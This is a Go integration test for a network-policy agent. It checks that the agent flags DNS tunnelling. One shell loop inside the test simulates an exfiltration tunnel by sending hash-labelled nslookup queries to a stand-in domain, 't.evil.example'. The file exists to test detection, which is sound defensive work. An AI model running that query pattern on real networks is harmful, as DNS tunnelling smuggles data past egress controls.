package agent

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"sync/atomic"
	"testing"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/sallyport/sallyport/tests/testutil"
)

// resolver answers every query for an address with its own, and counts them.
type resolver struct {
	addr  netip.Addr
	asked atomic.Int64
}

// serveNames starts one behind the node.
func (s *scene) serveNames(t *testing.T) *resolver {
	t.Helper()
	r := &resolver{addr: s.net.ServerAddr}
	var conn *net.UDPConn
	s.net.Server.Do(t, func() (err error) {
		conn, err = net.ListenUDP("udp", net.UDPAddrFromAddrPort(netip.AddrPortFrom(r.addr, 53)))
		return err
	})
	t.Cleanup(func() { _ = conn.Close() }) // what ends it
	go testutil.ServeDNS(conn, r.answer)
	return r
}

// answer counts a query and answers it.
func (r *resolver) answer(_ []byte, m *dnsmessage.Message) [][]byte {
	r.asked.Add(1)
	q := m.Questions[0]
	m.Response, m.Additionals = true, nil
	if q.Type == dnsmessage.TypeA {
		h := dnsmessage.ResourceHeader{Name: q.Name, Class: dnsmessage.ClassINET, TTL: 60}
		m.Answers = []dnsmessage.Resource{{Header: h, Body: &dnsmessage.AResource{A: r.addr.As4()}}}
	}
	answer, err := m.Pack()
	if err != nil {
		return nil // who waits for it says that it did not come
	}
	return [][]byte{answer}
}

// TestTunnelIsTold: a client that asks a real resolver for 1,000 names that carry data is told once, by its domain; one that
// asks for as many which do not is not told.
func TestTunnelIsTold(t *testing.T) {
	s := newScene(t)
	r := s.serveNames(t)
	s.agent.Policy(t, "web.yaml", s.policyOf("web", fmt.Sprintf(`  rules:
  - name: ask
    egress:
    - toCIDR: [%s/32]
      toPorts: [{ports: [{port: "53", protocol: UDP}], rules: {dns: [{matchPattern: "**.example"}]}}]
`, r.addr)))
	s.agent.Start(t)
	ask := func(name string) string {
		return fmt.Sprintf("i=0; while [ $i -lt 1000 ]; do i=$((i+1)); nslookup %s %s >/dev/null 2>&1; done; echo done; ", name, r.addr)
	}
	web := s.run(t, "web", "until [ -e /go ]; do sleep 0.1; done; "+ask("web-$i.shop.example")+
		ask("$(echo $i | md5sum | cut -c1-32).t.evil.example")+"sleep 1000")
	s.agent.awaitGoverned(t, "web")
	goOn(t, web)
	testutil.Eventually(t, "the tunnel is told", func() error {
		if len(s.tunnels(t)) == 0 {
			return fmt.Errorf("no such event; the resolver was asked %d times", r.asked.Load())
		}
		return nil
	})
	testutil.Eventually(t, "all names", func() error {
		if count(web.Log(t), "done") < 2 {
			return errors.New("there are more to come")
		}
		return nil
	})
	told := s.tunnels(t)
	if len(told) != 1 {
		t.Fatalf("tunnels are told: %+v", told)
	}
	if e := told[0]; e.Severity != "critical" || e.Query != "evil.example" || e.Pod != "web" || e.Origin != "Main" || e.Told < 100 {
		t.Errorf("the tunnel is told as %+v", e)
	}
}

// tunnels are those that were told.
func (s *scene) tunnels(t *testing.T) []event {
	t.Helper()
	return s.agent.Observe(t, "--kind", "tunnel")
}
